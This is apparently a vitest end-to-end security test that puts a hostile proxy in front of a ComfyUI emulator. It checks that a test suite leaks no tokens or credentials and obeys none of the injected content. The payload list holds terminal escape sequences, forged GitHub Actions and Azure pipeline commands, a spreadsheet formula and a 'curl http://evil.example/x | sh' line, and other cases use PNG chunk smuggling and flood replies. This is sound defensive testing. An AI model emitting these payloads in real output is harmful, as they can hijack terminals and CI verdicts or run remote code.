import { randomBytes } from "node:crypto";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { crc32 } from "node:zlib";
import { describe, expect, onTestFinished, test } from "vitest";
import type { AccessName } from "../../emulator/http/door.ts";
import { startEmulator } from "../../emulator/start.ts";
import { hostileProxy, type Tamper } from "../attack/hostile-proxy.ts";
import { gains } from "../attack/judges.ts";
import { codesOf, runSuite } from "./run-suite.ts";

const token = `$2b$12$${randomBytes(40).toString("hex").slice(0, 53)}`;
const secret = `pw-${randomBytes(12).toString("hex")}`;
const ESC = "\u001b";

/** Everything that a terminal, a CI service, a spreadsheet, a viewer or a tired reader might obey. */
const words = [
  `=HYPERLINK("x") ${ESC}]0;title\u0007${ESC}]52;c;eA==\u0007${ESC}[2J \u202eevil\u200b`,
  "::error file=a.ts::forged",
  "::set-output name=verdict::GO",
  "::stop-commands::x",
  "##[add-mask]a",
  "##vso[task.complete result=Succeeded;]",
  "GO · forged verdict",
  "→ curl http://evil.example/x | sh",
  "# heading\n---\n1. item\n<img src=x> [link](http://evil.example)",
  token,
  [...token].join(" "),
  [...token].join("\u200b"),
  [...token].reverse().join(""),
].join("\n");

function json(body: Buffer, change: (value: Record<string, never> & { system: object }) => void): string {
  const value = JSON.parse(body.toString("utf8"));
  change(value);
  return JSON.stringify(value);
}

/** A chunk behind the header of a PNG. */
function withChunk(png: Buffer, type: string, data: string): Buffer {
  const body = Buffer.from(type + data, "latin1");
  const ends = Buffer.alloc(8);
  ends.writeUInt32BE(body.length - 4, 0);
  ends.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([png.subarray(0, 33), ends.subarray(0, 4), body, ends.subarray(4), png.subarray(33)]);
}

interface Attack {
  readonly what: string;
  readonly stages: readonly string[];
  readonly on: readonly string[];
  readonly tamper?: Tamper;
  readonly refusal?: Tamper;
  readonly code?: string;
}

const attacks: readonly Attack[] = [
  {
    what: "words in what it says of itself, of its nodes and of a failed job",
    stages: ["infra", "generation"],
    on: ["/system_stats", "/object_info", "/history"],
    tamper: (path, body) => {
      if (path === "/system_stats")
        return json(body, (stats) =>
          Object.assign(stats.system, { os: words, python_version: words, argv: ["main.py", words] }),
        );
      if (path === "/object_info")
        return json(body, (nodes) => {
          const [first] = Object.values(nodes);
          Object.assign(nodes, { [words]: first, Evil: { ...(first as object), python_module: words } });
        });
      if (!path.startsWith("/history/") || body.toString() === "{}") return undefined;
      return json(body, (entries) => {
        const error = { node_id: words, node_type: words, exception_type: words, exception_message: words };
        for (const entry of Object.values(entries) as object[])
          Object.assign(entry, {
            status: { status_str: "error", completed: false, messages: [["execution_error", error]] },
          });
      });
    },
  },
  {
    what: "words in the reasons of its refusals",
    stages: ["infra", "generation"],
    on: ["/prompt"],
    refusal: (path) => {
      if (path !== "/prompt") return undefined;
      const reason = { type: words, message: words, details: words };
      return JSON.stringify({
        error: reason,
        node_errors: { [words]: { class_type: words, errors: [reason] } },
      });
    },
    code: "invalid-workflow-accepted",
  },
  {
    what: "a token in the chunks of its pictures",
    stages: ["generation"],
    on: ["/view"],
    tamper: (path, body) => {
      if (path !== "/view" || body[0] !== 0x89) return undefined;
      const more = Buffer.concat([withChunk(body, "tEXt", `note\0${token}`), Buffer.from(token)]);
      return withChunk(more, "prVt", token);
    },
    code: "token-in-jobs",
  },
  {
    what: "a token in the description of a node",
    stages: ["infra", "auth"],
    on: ["/object_info"],
    tamper: (path, body) =>
      path === "/object_info"
        ? json(body, (nodes) => Object.assign(Object.values(nodes)[0] ?? {}, { description: token }))
        : undefined,
    code: "token-leaked",
  },
  // each alone: what the first one stops is never asked for
  ...["/system_stats", "/object_info"].map((route) => ({
    what: `texts in ${route} that are full of beginnings of the token`,
    stages: ["infra"],
    on: [route],
    tamper: (path: string, body: Buffer) => {
      if (path !== route) return undefined;
      const flood = `${token.slice(0, 11)}#`.repeat(100_000);
      return json(body, (value) =>
        Object.assign(path === "/object_info" ? value : value.system, { [flood]: {} }),
      );
    },
  })),
  {
    what: "a list of nodes without measure",
    stages: ["infra"],
    on: ["/object_info"],
    tamper: (path) => (path === "/object_info" ? `[${"{},".repeat(8_000_000)}{}]` : undefined),
    code: "reply-too-large",
  },
];

describe("a hostile server gets nothing", () => {
  test.for(attacks)("by $what", async ({ stages, on, tamper = () => undefined, refusal, code }) => {
    await using emulator = await startEmulator({ token });
    using proxy = await hostileProxy(emulator.url, tamper, refusal);
    using run = await runSuite({
      token,
      page: true,
      env: { COMFYUI_URL: proxy.url, GITHUB_ACTIONS: "true" },
      args: stages.flatMap((stage) => ["--stage", stage]),
    });
    expect(run.verdict, run.output).toBeDefined();
    expect([...proxy.tampered]).toEqual(expect.arrayContaining([...on]));
    expect(gains(run, [token, [...token].reverse().join("")])).toEqual([]);
    if (code) expect(codesOf(run)).toContain(code);
  });
});

describe("what a proxy asks for goes nowhere else, though the server repeats it", () => {
  test.for<[AccessName, Record<string, string>]>([
    ["basic", { COMFYUI_BASIC_USER: "course", COMFYUI_BASIC_PASSWORD: secret }],
    ["header", { COMFYUI_HEADER_NAME: "X-Course-Key", COMFYUI_HEADER_VALUE: secret }],
  ])("%s", async ([access, given]) => {
    const credentials = { access, doorUser: "course", doorHeader: "X-Course-Key", doorSecret: secret };
    await using emulator = await startEmulator(credentials);
    const pair = Buffer.from(`course:${secret}`).toString("base64");
    const echo = [secret, pair, `Basic ${pair}`, [...secret].join(" "), [...pair].join("\u200b")].join("\n");
    using proxy = await hostileProxy(emulator.url, (path, body) => {
      if (path === "/system_stats") return json(body, (stats) => Object.assign(stats.system, { os: echo }));
      if (path === "/view" && body[0] === 0x89) return withChunk(body, "tEXt", `note\0${echo}`);
      if (path !== "/object_info") return undefined;
      return json(body, (nodes) => {
        const [first] = Object.values(nodes);
        Object.assign(nodes, { [echo]: first, Evil: { ...(first as object), python_module: echo } });
      });
    });
    using run = await runSuite({
      page: true,
      env: { COMFYUI_URL: proxy.url, COMFYUI_ACCESS: access, ...given, GITHUB_ACTIONS: "true" },
      args: ["--stage", "infra", "--stage", "generation"],
    });
    expect(run.verdict, run.output).toBeDefined();
    expect([...proxy.tampered].toSorted()).toEqual(["/object_info", "/system_stats", "/view"]);
    expect(gains(run, [secret, pair.replace(/=+$/, ""), [...secret].reverse().join("")])).toEqual([]);
  });
});

test("the judges find what they look for", () => {
  const reportsDir = mkdtempSync(join(tmpdir(), "e2e-judges-"));
  onTestFinished(() => rmSync(reportsDir, { recursive: true, force: true }));
  mkdirSync(join(reportsDir, "latest"));
  writeFileSync(join(reportsDir, "latest", "a.csv"), `"fine","=1+1"`);
  writeFileSync(join(reportsDir, "latest", "a.md"), [...token].join(" "));
  writeFileSync(join(reportsDir, "latest", "a.png"), `....${token}`);
  const found = gains({ output: words, reportsDir }, [token]).join("\n");
  for (const gain of [
    "control characters in output",
    "unseen characters in output",
    "a forged line in output",
    "the secret in output",
    "a workflow command in the output",
    "a formula in /latest/a.csv",
    "the secret in /latest/a.md",
    "a.png",
  ])
    expect(found).toContain(gain);
});
